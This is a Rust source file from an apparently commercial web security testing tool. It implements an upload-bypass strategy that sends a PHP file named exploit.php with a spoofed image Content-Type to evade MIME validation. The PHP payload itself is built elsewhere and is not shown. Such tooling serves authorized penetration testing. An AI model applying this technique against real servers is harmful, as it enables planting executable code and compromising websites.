// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use async_trait::async_trait;

use super::common::{php_payload, run_variants, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

const SPOOFED_TYPES: &[&str] = &["image/jpeg", "image/png"];

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "content_type_override",
    description: "Send the PHP payload with an image Content-Type",
    targets_hypotheses: &[HypothesisName::MimeValidation],
    tech_requirements: TechRequirements {
        language: None,
        version_min: None,
        version_max: None,
    },
    confidence_gain: Some(0.6),
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ContentTypeOverride;

#[async_trait]
impl Strategy for ContentTypeOverride {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let payload = php_payload(tools.payload);
        let variants = SPOOFED_TYPES
            .iter()
            .map(|ct| Variant::new(UploadFile::new("exploit.php", payload.clone()).with_content_type(*ct)))
            .collect();
        run_variants(context, tools, BypassTechnique::ContentTypeOverride, variants).await
    }
}
